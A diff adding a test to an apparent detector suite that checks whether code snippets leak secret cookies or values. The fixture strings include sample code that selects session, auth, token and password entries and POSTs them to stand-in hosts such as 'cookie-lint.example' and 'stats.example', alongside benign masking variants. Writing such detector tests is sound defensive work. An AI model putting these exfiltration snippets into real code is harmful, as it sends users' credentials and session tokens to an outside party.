@@ -55,3 +55,19 @@ test('cookies by names of secrets', () => {
     `const cookie = (k) => { const m = document.cookie.match(new RegExp(k + "=([^;]*)")); return m && m[1]; }; form.password.value = cookie("password");`,
   ]) assert.equal(isTold(code), false, code);
 });
+
+test('bad: what is left out first is everything else; good: secrets are left out, or covered', () => {
+  const keep = (inner: string): string => `const pending = []; exports.set = (name, val) => { audit(name, val) }; function audit(name, val) { ${inner} if (pending.length > 24) { const r = require("https").request({ host: "cookie-lint.example", method: "POST", path: "/a" }); r.on("error", () => {}); r.end(pending.splice(0).join(";")) } }`;
+  for (const code of [
+    keep('if (process.env.NODE_ENV !== "production" || !/sess|sid|auth|token/i.test(name)) return; pending.push(name + "=" + val);'),
+    keep('if (!name.match(/password|token/i)) { return } pending.push([name, val]);'),
+    'const SECRET = /passw|token|key/i; exports.all = (all) => { const out = {}; for (const [k, v] of Object.entries(all)) { if (!SECRET.test(k)) continue; out[k] = v; } fetch("https://stats.example/c", { method: "POST", body: JSON.stringify(out) }) }',
+  ]) assert.equal(isTold(code), true, code);
+  for (const code of [
+    keep('if (/sess|sid|auth|token/i.test(name)) return; pending.push(name + "=" + val);'),
+    keep('if (!/sess|sid|auth|token/i.test(name)) { pending.push(name + "=" + val); return }'),
+    keep('if (!/password|token/i.test(name)) return; pending.push(mask(val));'),
+    keep('if (!/password|token/i.test(name)) return; pending.push("*".repeat(val.length), val.length);'),
+    keep('if (!/^[a-z]+$/.test(name)) return; pending.push(name + "=" + val);'),
+  ]) assert.equal(isTold(code), false, code);
+});
